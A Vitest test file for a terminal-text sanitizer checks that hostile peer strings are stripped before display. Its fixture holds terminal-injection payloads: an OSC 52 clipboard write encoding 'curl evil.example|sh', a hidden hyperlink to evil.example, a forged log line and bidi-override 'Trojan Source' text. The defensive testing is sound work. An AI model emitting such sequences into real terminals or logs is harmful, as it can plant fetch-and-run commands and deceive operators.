/**
 * Peer text made inert for terminals and logs: a hostile release name / error reason full of
 * escape sequences, control characters and bidi overrides comes out as plain visible text.
 */
import { describe, expect, it } from 'vitest'
import { REPLACEMENT, safeJson, sanitizeText } from '../../../src/util/terminal-text.js'

/** What a hostile peer would put in an ERROR frame's reason or a release name. */
const HOSTILE = [
  'model',
  '\x1b[2J\x1b[H', // clear screen, cursor home
  '\x1b]0;pwned\x07', // window title (OSC, BEL)
  '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\', // write the clipboard (OSC 52, ST)
  '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\', // hidden hyperlink (OSC 8)
  '\x9b31m', // C1 CSI: red
  '\x1bP+q\x1b\\', // DCS
  '\x1b(0', // charset switch
  '\r\nfetched 1 GiB into /home/you/model, signed by 12D3KooWTrusted', // a forged line of ours
  '\x08\x08\x00\x7f\x85', // backspaces, NUL, DEL, C1 NEL
  '\u202eexe.txt\u202c', // right-to-left override ("Trojan Source")
  '\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029',
  'end'
].join('')

const FORBIDDEN = /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/

describe('sanitizeText', () => {
  it('leaves no escape, control or bidi character in a hostile string, and keeps its visible text', () => {
    const out = sanitizeText(HOSTILE)
    expect(out).not.toMatch(FORBIDDEN)
    expect(out.startsWith('model')).toBe(true)
    expect(out.endsWith('end')).toBe(true)
    expect(out).toContain('click') // the link's visible text stays, its target is gone
    expect(out).not.toContain('evil.example')
    expect(out).not.toContain('pwned')
    expect(out).not.toContain('\n')
    expect(out).toContain(REPLACEMENT) // where controls were, the reader sees that something was
  })

  it('keeps our own newlines when asked, and still cleans each line', () => {
    const out = sanitizeText(`first line\nsecond ${HOSTILE}`, { keepNewlines: true })
    const lines = out.split('\n')
    expect(lines[0]).toBe('first line')
    for (const line of lines) expect(line).not.toMatch(FORBIDDEN)
  })

  it('does not change ordinary text, including non-Latin scripts', () => {
    for (const text of ['Llama-3.1-8B-Instruct', 'tokenizer/tokenizer.json', 'модель 模型 نموذج', 'a\tb'.replace('\t', ' ')]) {
      expect(sanitizeText(text)).toBe(text)
    }
  })

  it('an unterminated escape string swallows the rest instead of reaching the terminal', () => {
    expect(sanitizeText('ok\x1b]0;title never ends')).toBe('ok')
    expect(sanitizeText('ok\x1b')).toBe('ok')
  })
})

describe('safeJson', () => {
  it('is the same JSON, with every terminal-active character escaped', () => {
    const value = { event: 'peer-dropped', reason: HOSTILE }
    const line = safeJson(value)
    expect(line).not.toMatch(FORBIDDEN)
    expect(JSON.parse(line)).toEqual(value) // lossless
  })
})
